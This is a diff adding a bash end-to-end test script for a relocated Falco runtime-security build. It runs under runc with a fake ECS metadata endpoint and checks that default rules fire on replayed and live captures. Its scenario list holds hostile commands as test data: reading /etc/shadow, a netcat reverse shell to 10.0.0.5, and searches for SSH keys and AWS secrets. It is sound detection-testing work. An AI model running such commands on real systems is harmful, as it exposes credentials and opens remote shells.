@@ -1,0 +1,223 @@
+#!/usr/bin/env bash
+# End-to-end tests of the Falco Kilt ships (build/falco/kilt-falco, mounted read-only at /kilt/falco):
+#  (a) it runs in app images that have nothing of it: an empty rootfs (scratch), and an alpine-like one
+#      (busybox, musl's loader, decoy glibc-named libraries and LD_LIBRARY_PATH pointing at them);
+#  (b) the unmodified default rules fire with the shipped falco.yaml, Falco started through /kilt/falco/start
+#      under runc with a fake ECS task metadata endpoint: each scenario (a command and the rule it must raise)
+#      becomes a scap capture written by the capture encoder (SCENARIO_CAPTURE) that Falco replays
+#      (engine.kind=replay); the alerts must be exactly that rule, as JSON lines carrying the container
+#      identity the endpoint gave; a benign command must raise nothing;
+#  (c) live, as in a task: engine.kind=nodriver with the capture plugin (libkiltcap.so) reading a feed
+#      (SCAP_SCENARIO feed, the capture's test scenario) at $KILT_CAPTURE_SOCKET.
+# Needs root (runc). Run by `make test-falco`, which builds what it uses first.
+#
+# usage: tests/falco/run.sh TREE SCENARIO_CAPTURE SCAP_SCENARIO
+set -uo pipefail
+cd "$(dirname "$0")/../.."
+T_NAME=falco
+. tests/lib/testlib.sh
+
+[ $# = 3 ] || { echo "usage: tests/falco/run.sh TREE SCENARIO_CAPTURE SCAP_SCENARIO"; exit 2; }
+TREE=$(realpath "$1")
+SCENARIO_CAPTURE=$(realpath "$2")
+SCAP_SCENARIO=$(realpath "$3")
+[ "$(id -u)" = 0 ] || { echo "tests/falco: needs root (runc)"; exit 1; }
+for t in runc jq python3 busybox; do
+  command -v $t >/dev/null || { echo "tests/falco: '$t' is missing; run 'make deps'"; exit 1; }
+done
+[ -x "$TREE/bin/falco" ] && [ -x "$TREE/start" ] && [ -f "$TREE/plugins/libkiltcap.so" ] ||
+  { echo "tests/falco: $TREE is incomplete; run 'make falco'"; exit 1; }
+
+T=$(mktemp -d "${TMPDIR:-/tmp}/kilt-test-falco.XXXXXX")
+RUNC_ROOT=$T/runc
+BG=()
+cleanup() {
+  for p in "${BG[@]}"; do kill "$p" 2>/dev/null && wait "$p" 2>/dev/null; done
+  for id in $(runc --root "$RUNC_ROOT" list -q 2>/dev/null); do runc --root "$RUNC_ROOT" delete -f "$id" >/dev/null 2>&1; done
+  if [ -n "${KEEP:-}" ]; then echo "tests/falco: kept $T"; else rm -rf "$T"; fi
+}
+trap cleanup EXIT
+trap 'exit 1' INT TERM
+
+# ---- rootfs and runc ---------------------------------------------------------------------------------
+# scratch: nothing at all.
+mkdir -p "$T/scratch"
+# alpine-like: busybox, musl's dynamic loader at its Alpine path, /etc/alpine-release, and libraries named
+# like glibc's that are not (a Falco that looked outside /kilt/falco/lib would die loading them).
+A=$T/alpine
+mkdir -p "$A/bin" "$A/lib" "$A/usr/lib" "$A/etc" "$A/tmp"
+cp "$(command -v busybox)" "$A/bin/busybox"
+for a in sh ls cat env; do ln -s busybox "$A/bin/$a"; done
+cp "$(readlink -f /lib/ld-musl-x86_64.so.1)" "$A/lib/ld-musl-x86_64.so.1"
+echo 3.19.1 > "$A/etc/alpine-release"
+for l in libc.so.6 libstdc++.so.6 libm.so.6 libgcc_s.so.1 libtbb.so.12 libyaml-cpp.so.0.7 libz.so.1; do
+  echo "not a library" > "$A/usr/lib/$l"; cp "$A/usr/lib/$l" "$A/lib/$l"
+done
+mkdir -p "$T/cap"
+
+# run_container NAME ROOTFS ENV_JSON ARGS...: runs ARGS in a fresh container (own PID, mount, IPC, UTS
+# namespaces; the host's network, so that a loopback fake endpoint is reachable) with the tree at
+# /kilt/falco and $T/cap at /cap, both read-only. Sets OUT, ERR (files) and RC.
+run_container() {
+  local name=$1 rootfs=$2 env=$3 b=$T/bundle-$1
+  shift 3
+  mkdir -p "$b"
+  (cd "$b" && runc spec)
+  local args
+  args=$(python3 -c 'import json, sys; print(json.dumps(sys.argv[1:]))' "$@")
+  jq --arg rootfs "$rootfs" --arg tree "$TREE" --arg cap "$T/cap" --argjson env "$env" --argjson args "$args" \
+     '.process.args = $args | .process.terminal = false
+     | .process.env = (["PATH=/bin:/usr/bin"] + $env) | .root = {path: $rootfs, readonly: false}
+     | .hostname = "falco-test-host"
+     | .linux.namespaces |= map(select(.type != "network"))
+     | .mounts += [{destination: "/kilt/falco", type: "bind", source: $tree, options: ["rbind", "ro"]},
+                   {destination: "/cap", type: "bind", source: $cap, options: ["rbind", "ro"]}]' \
+     < "$b/config.json" > "$b/config.new" && mv "$b/config.new" "$b/config.json"
+  OUT=$b/out ERR=$b/err
+  runc --root "$RUNC_ROOT" run --bundle "$b" "kilt-falco-test-$name-$$" > "$OUT" 2> "$ERR" < /dev/null
+  RC=$?
+  runc --root "$RUNC_ROOT" delete -f "kilt-falco-test-$name-$$" >/dev/null 2>&1
+  return 0
+}
+
+# ---- the tree ------------------------------------------------------------------------------------------
+echo "# the tree"
+TP=${KILT_THIRD_PARTY:-$(for d in ../shared/third_party /work/shared/third_party; do
+                            [ -f "$d/SHA256SUMS" ] && { echo "$d"; break; }; done)}
+expect_eq "rules/falco_rules.yaml is falco-rules-5.1.0's, unmodified" \
+  "$(tar -xzOf "$TP/rules-falco-rules-5.1.0.tar.gz" rules-falco-rules-5.1.0/rules/falco_rules.yaml | sha256sum)" \
+  "$(sha256sum < "$TREE/rules/falco_rules.yaml")"
+expect_eq "bin/falco's ELF interpreter is the tree's own loader" "/kilt/falco/lib/ld-linux-x86-64.so.2" \
+  "$(patchelf --print-interpreter "$TREE/bin/falco")"
+check "every library bin/falco and the plugins need is in lib/" bash -c '
+  for f in "$1"/bin/falco "$1"/plugins/*.so; do
+    for n in $(patchelf --print-needed "$f"); do [ -e "$1/lib/$n" ] || { echo "missing $n for $f"; exit 1; }; done
+  done' _ "$TREE"
+check "bin/falco and the plugins are stripped" bash -c '! file "$1"/bin/falco "$1"/plugins/*.so | grep -q "not stripped"' _ "$TREE"
+echo "  (the tree is $(du -sk "$TREE" | cut -f1) KiB)"
+
+# ---- (a) it runs anywhere ---------------------------------------------------------------------------
+echo "# the relocated Falco in app images that have nothing of it"
+run_container scratch-version "$T/scratch" '[]' /kilt/falco/bin/falco --version
+expect_eq "scratch: falco --version exits 0" 0 "$RC"
+check "scratch: it is Falco 0.44.1 with libs 0.25.4" \
+  grep -q 'Falco version: 0.44.1' "$OUT"
+check "scratch: libs version 0.25.4" grep -q 'Libs version: *0.25.4' "$OUT"
+check "scratch: plugin API and engine versions printed" grep -q '^Plugin API: *3\.12\.0$' "$OUT"
+
+run_container alpine-version "$A" '["LD_LIBRARY_PATH=/usr/lib:/lib"]' /kilt/falco/bin/falco --version
+expect_eq "alpine-like rootfs with decoy libraries on LD_LIBRARY_PATH: falco --version exits 0" 0 "$RC"
+check "alpine-like: it is Falco 0.44.1 (DT_RPATH wins over LD_LIBRARY_PATH)" grep -q 'Falco version: 0.44.1' "$OUT"
+
+run_container alpine-start "$A" '["LD_LIBRARY_PATH=/usr/lib:/lib", "LD_PRELOAD=/usr/lib/libz.so.1"]' \
+  /kilt/falco/start --version
+expect_eq "alpine-like: /kilt/falco/start --version exits 0 despite LD_PRELOAD of a decoy" 0 "$RC"
+check "alpine-like: start execs Falco with falco.yaml (JSON output: --version prints JSON)" \
+  grep -q '"falco_version":"0.44.1"' "$OUT"
+check "alpine-like: start says which identity it found (hostname here)" \
+  grep -q '^kilt-falco-start: container id=falco-test-host name=falco-test-host image=unknown platform=none task=none (from hostname)$' "$ERR"
+
+run_container scratch-config "$T/scratch" '[]' /kilt/falco/start --dry-run
+expect_eq "scratch: falco.yaml, the rules and the container plugin load (--dry-run)" 0 "$RC"
+check "scratch: falco.yaml passes Falco's schema validation" grep -q '/kilt/falco/falco.yaml | schema validation: ok' "$ERR"
+check "scratch: both plugins load" bash -c "grep -q \"Loaded plugin 'kiltcap@\" '$ERR' && grep -q \"Loaded plugin 'container@0.7.1'\" '$ERR'"
+check "scratch: --dry-run printed no error or warning" bash -c "! grep -Eqi 'error|warn' '$ERR'"
+
+# ---- (b) the default rules fire ---------------------------------------------------------------------
+echo "# the unmodified default rules, replayed (engine.kind=replay) through /kilt/falco/start and falco.yaml"
+# A fake ECS task metadata endpoint (v4, container document) on an ephemeral loopback port.
+DOCKER_ID=9f2c1e0a7b3d4c5e8f6a1b2c3d4e5f60-3141592653
+TASK_ARN=arn:aws:ecs:eu-west-1:123456789012:task/kilt/9f2c1e0a7b3d4c5e8f6a1b2c3d4e5f60
+cat > "$T/metadata.json" <<EOF
+{"DockerId": "$DOCKER_ID", "Name": "web", "DockerName": "web", "Image": "registry.example/shop/web:1.2",
+ "Labels": {"com.amazonaws.ecs.container-name": "web", "com.amazonaws.ecs.task-arn": "$TASK_ARN"},
+ "DesiredStatus": "RUNNING", "KnownStatus": "RUNNING", "Type": "NORMAL"}
+EOF
+python3 - "$T/metadata.json" "$T/port" <<'EOF' &
+import http.server, sys
+body = open(sys.argv[1], "rb").read()
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200); self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
+    def log_message(self, *a): pass
+s = http.server.HTTPServer(("127.0.0.1", 0), H)
+open(sys.argv[2] + ".tmp", "w").write(str(s.server_port)); __import__("os").rename(sys.argv[2] + ".tmp", sys.argv[2])
+s.serve_forever()
+EOF
+BG+=($!)
+for _ in $(seq 100); do [ -s "$T/port" ] && break; sleep 0.05; done
+PORT=$(cat "$T/port")
+ECS_ENV=$(jq -cn --arg u "http://127.0.0.1:$PORT/v4/$DOCKER_ID" '["ECS_CONTAINER_METADATA_URI_V4=" + $u]')
+
+# One scenario: the rule that must fire ("-" for none) | the command. Each is replayed alone.
+SCENARIOS=(
+  "Read sensitive file untrusted|cat /etc/shadow"
+  "Netcat Remote Code Execution in Container|nc -e /bin/sh 10.0.0.5 4444"
+  "Search Private Keys or Passwords|find / -name id_rsa"
+  "Find AWS Credentials|grep -r aws_secret_access_key /root"
+  "-|ls -l /tmp"
+)
+n=0
+for s in "${SCENARIOS[@]}"; do
+  n=$((n + 1))
+  rule=${s%%|*} cmd=${s#*|}
+  # shellcheck disable=SC2086 # the command is split on spaces on purpose
+  "$SCENARIO_CAPTURE" "$T/cap/$n.scap" -- $cmd || { fail "'$cmd': no capture written"; continue; }
+  run_container "replay-$n" "$T/scratch" "$ECS_ENV" /kilt/falco/start \
+    -o engine.kind=replay -o engine.replay.capture_file=/cap/$n.scap
+  alerts=$(grep '^{' "$OUT")
+  if [ "$RC" != 0 ]; then
+    fail "'$cmd': Falco exited $RC: $(tail -3 "$ERR")"
+    continue
+  fi
+  fired=$(jq -r .rule <<<"$alerts" | sort -u | paste -sd, -)
+  if [ "$rule" = "-" ]; then
+    expect_eq "'$cmd' raises no alert" "" "$fired"
+    continue
+  fi
+  expect_eq "'$cmd' raises exactly '$rule'" "$rule" "$fired"
+  a=$(head -1 <<<"$alerts")
+  [ -n "$a" ] || continue
+  expect_eq "'$cmd': container.id is the ECS DockerId" "$DOCKER_ID" "$(jq -r '.output_fields["container.id"]' <<<"$a")"
+  expect_eq "'$cmd': container.name from the metadata" "web" "$(jq -r '.output_fields["container.name"]' <<<"$a")"
+  expect_eq "'$cmd': container.image.repository from the metadata" "registry.example/shop/web" \
+    "$(jq -r '.output_fields["container.image.repository"]' <<<"$a")"
+  expect_eq "'$cmd': kilt.task is the task ARN" "$TASK_ARN" "$(jq -r '.output_fields["kilt.task"]' <<<"$a")"
+  expect_eq "'$cmd': kilt.platform" "ecs" "$(jq -r '.output_fields["kilt.platform"]' <<<"$a")"
+  expect_eq "'$cmd': the alert is one JSON object per line, with priority, time, source and tags" "true" \
+    "$(jq -r '(.priority | length > 0) and (.time | length > 0) and .source == "syscall" and (.tags | length > 0)' <<<"$a")"
+done
+check "start reported the identity from the metadata endpoint" \
+  grep -q "^kilt-falco-start: container id=$DOCKER_ID name=web image=registry.example/shop/web:1.2 platform=ecs task=$TASK_ARN (from ECS task metadata v4)\$" "$ERR"
+
+# ---- (c) live -------------------------------------------------------------------------------------------
+echo "# live: engine.kind=nodriver, the capture plugin reading a feed at \$KILT_CAPTURE_SOCKET"
+ADDRESS="@kilt-falco-test-$$"
+"$SCAP_SCENARIO" feed "$ADDRESS" 60000 2> "$T/feed.err" &
+BG+=($!)
+LIVE_ENV=$(jq -c --arg a "KILT_CAPTURE_SOCKET=$ADDRESS" '. + [$a]' <<<"$ECS_ENV")
+run_container live "$T/scratch" "$LIVE_ENV" /kilt/falco/start &
+LIVE=$!
+BG+=($LIVE)
+LOUT=$T/bundle-live/out
+live_rules() { grep -o '"rule":"[^"]*"' "$LOUT" 2>/dev/null | sort -u | wc -l; }
+for _ in $(seq 600); do   # the capture's scenario raises 11 rules (tests/capture/falco_test.sh)
+  [ "$(live_rules)" -ge 11 ] && break
+  kill -0 "$LIVE" 2>/dev/null || break
+  sleep 0.1
+done
+runc --root "$RUNC_ROOT" kill "kilt-falco-test-live-$$" TERM 2>/dev/null
+wait "$LIVE"
+LERR=$T/bundle-live/err
+check "live: Falco opened the capture plugin as its syscall source" \
+  grep -q "Opening 'syscall' source with plugin 'kiltcap'" "$LERR"
+check "live: the plugin connected to the feed and read it" grep -q "events sent" "$T/feed.err"
+live_alert=$(grep '"rule":"Read sensitive file untrusted"' "$LOUT" | head -1)
+expect_contains "live: 'Read sensitive file untrusted' fires" '"proc.name":"cat"' "$live_alert"
+expect_contains "live: with the ECS DockerId as container.id" "\"container.id\":\"$DOCKER_ID\"" "$live_alert"
+expect_contains "live: and the task ARN" "\"kilt.task\":\"$TASK_ARN\"" "$live_alert"
+expect_eq "live: the capture scenario's 11 rules fire" 11 "$(live_rules)"
+check "live: Falco stops cleanly on SIGTERM" grep -q "received, exiting" "$LERR"
+
+summary
